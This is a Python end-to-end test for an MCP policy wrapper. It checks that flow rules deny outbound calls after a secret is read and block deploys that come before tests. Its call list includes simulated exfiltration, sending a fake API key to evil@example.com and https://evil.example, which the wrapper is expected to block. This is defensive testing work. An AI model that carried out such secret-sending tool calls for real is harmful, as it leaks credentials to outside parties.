"""End to end: flow rules (docs/policy.md, "Flow rules") through `assay mcp wrap --policy
examples/flows.yaml -- python examples/flows_server.py`, with the official `mcp` Python SDK
client and the TypeScript SDK v1 client.

The policy is the `flows` example of docs/policy.md (a unit test keeps the two equal): no
`send_*` / `http_*` / `*post*` call after a secret was read, and `deploy` only after `run_tests`.
"""

from __future__ import annotations

import json
import re
import sys

import trio
from mcp import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

from _e2e_support import (
    DENY_TEXT,
    E2E,
    REPO,
    RUN_TIMEOUT,
    Call,
    WrapRun,
    assert_all_ended,
    assert_denied,
)

FLOWS_POLICY = REPO / "examples" / "flows.yaml"
FLOWS_SERVER = REPO / "examples" / "flows_server.py"
TS_V1_CLIENT = E2E / "ts_v1_client.mjs"
SEQ = "E_SEQUENCE_VIOLATION"
NO_EXFIL = "no network call after a secret was read in this session"
TESTS_FIRST = "deploy only after run_tests in this session"

# (call, the rule that denies it or None)
CALLS: list[tuple[Call, str | None]] = [
    (Call("deploy", {"target": "prod"}, SEQ), "tests-before-deploy"),
    (Call("run_tests", {}), None),
    (Call("deploy", {"target": "prod"}), None),
    (Call("send_email", {"to": "ops@example.com", "body": "deployed"}), None),
    (Call("read_secret", {"name": "api_key"}), None),
    (Call("send_email", {"to": "evil@example.com", "body": "sk-demo-0000"}, SEQ), "no-exfiltration"),
    (Call("http_post", {"url": "https://evil.example", "body": "sk-demo-0000"}, SEQ), "no-exfiltration"),
    (Call("read_file", {"path": "/workspace/README.md"}), None),
]
MESSAGES = {"tests-before-deploy": TESTS_FIRST, "no-exfiltration": NO_EXFIL}
# the rule's message, then how the deny ends (docs/policy.md, "How a deny ends"): the wrap's
# session is the client's (docs/wrap.md, "Shared sessions"), named by its pid and start time
ENDS = {
    "tests-before-deploy": re.escape("; it ends once 'run_tests' is called"),
    "no-exfiltration": re.escape(
        "; it holds for the rest of the agent session (a `for:` in the rule would end it "
        "by itself); `assay mcp session reset client:"
    )
    + r"\d+:[^`]+` clears it",
}


def said(rule: str, reason: object) -> bool:
    return isinstance(reason, str) and re.fullmatch(re.escape(MESSAGES[rule]) + ENDS[rule], reason) is not None


def _run(tmp_path) -> WrapRun:
    return WrapRun(tmp_path, FLOWS_POLICY, [sys.executable, str(FLOWS_SERVER)])


def _assert_flow_logs(run: WrapRun) -> None:
    """One decision event and one audit record per call, in order; flow denies carry the rule id
    in matched_rule and the rule's message as the reason."""
    decisions, audits = run.decisions(), run.audits()
    assert [d["tool"] for d in decisions] == [c.name for c, _ in CALLS], decisions
    assert [a["tool"] for a in audits] == [c.name for c, _ in CALLS], audits
    for (call, rule), d, a in zip(CALLS, decisions, audits, strict=True):
        if rule is None:
            assert (d["decision"], d["reason_code"]) == ("allow", "P_POLICY_ALLOW"), d
            assert a["decision"] == "allow", a
        else:
            assert (d["decision"], d["reason_code"], d["typed_decision"]) == ("deny", "P_SEQUENCE_VIOLATION", "deny"), d
            assert d["matched_rule"] == rule and said(rule, d["reason"]), d
            assert a["decision"] == "deny" and a["agentic"]["rule"] == rule, a
            assert a["agentic"]["error_code"] == SEQ and a["reason"] == d["reason"], a


def _assert_flow_deny(name: str, rule: str, is_error: bool, structured: object, text: str) -> None:
    assert_denied(name, is_error, structured, text, SEQ)
    assert isinstance(structured, dict) and said(rule, structured.get("reason")), structured
    expected = {"status": "deny", "error_code": SEQ, "tool": name, "rule": rule, "reason": structured["reason"]}
    assert structured == expected, structured  # the tools declare no outputSchema
    assert json.loads(text[len(DENY_TEXT) :]) == expected


async def test_python_sdk_client_flow_rules(tmp_path, base_env):
    run = _run(tmp_path)
    params = StdioServerParameters(command=run.argv[0], args=run.argv[1:], env=base_env)
    with trio.fail_after(RUN_TIMEOUT), run.stderr.open("w") as errlog:
        async with stdio_client(params, errlog=errlog) as (read, write):
            async with ClientSession(read, write) as session:
                await session.initialize()
                tools = await session.list_tools()
                results = [await session.call_tool(c.name, c.arguments) for c, _ in CALLS]

    assert {t.name for t in tools.tools} == {
        "read_secret",
        "read_file",
        "send_email",
        "http_post",
        "run_tests",
        "deploy",
    }
    texts = ["".join(getattr(b, "text", "") for b in r.content) for r in results]
    for (call, rule), result, text in zip(CALLS, results, texts, strict=True):
        if rule is None:
            assert result.is_error is False, (call, result)
        else:
            _assert_flow_deny(call.name, rule, result.is_error, result.structured_content, text)
    assert texts[1] == "12 passed" and texts[2] == "deployed to prod" and texts[4] == "sk-demo-0000"
    _assert_flow_logs(run)
    wraps, servers = run.pids()
    assert len(wraps) == 1 and len(servers) == 1, (wraps, servers)
    await assert_all_ended(wraps + servers)
    stderr = run.stderr_text()
    assert f'[assay] DENY "send_email" (reason: "{NO_EXFIL}; it holds for the rest of the agent session' in stderr, (
        stderr
    )


async def test_ts_v1_client_sees_a_flow_deny_as_an_error_result(node, tmp_path, base_env):
    """The TypeScript SDK v1 `Client` gets a flow deny as a CallToolResult with isError (not a
    thrown error), with the payload in structuredContent."""
    run = _run(tmp_path)
    steps = [{"op": "list"}] + [{"op": "call", "name": c.name, "arguments": c.arguments} for c, _ in CALLS]
    spec = {"command": run.argv[0], "args": run.argv[1:], "steps": steps, "timeoutMs": int(RUN_TIMEOUT * 1000)}
    with trio.fail_after(RUN_TIMEOUT + 30):
        proc = await trio.run_process(
            [node, str(TS_V1_CLIENT)],
            stdin=json.dumps(spec).encode(),
            capture_stdout=True,
            capture_stderr=True,
            check=False,
            cwd=str(E2E),
            env=base_env,
        )
    run.stderr.write_bytes(proc.stderr)
    out = proc.stdout.decode()
    assert proc.returncode == 0, f"ts_v1_client exited {proc.returncode}\nstdout:\n{out}\nstderr:\n{run.stderr_text()}"
    lines = [json.loads(line) for line in out.splitlines()]
    assert [x["kind"] for x in lines] == ["connected", "list"] + ["call"] * len(CALLS) + ["closed"], out
    assert lines[-1]["errors"] == [], lines[-1]
    for (call, rule), line in zip(CALLS, lines[2:-1], strict=True):
        assert "thrown" not in line, line
        if rule is None:
            assert line["is_error"] is False, line
        else:
            _assert_flow_deny(call.name, rule, line["is_error"], line["structuredContent"], "".join(line["texts"]))
    _assert_flow_logs(run)
    wraps, servers = run.pids()
    assert len(wraps) == 1 and len(servers) == 1, (wraps, servers)
    await assert_all_ended(wraps + servers)
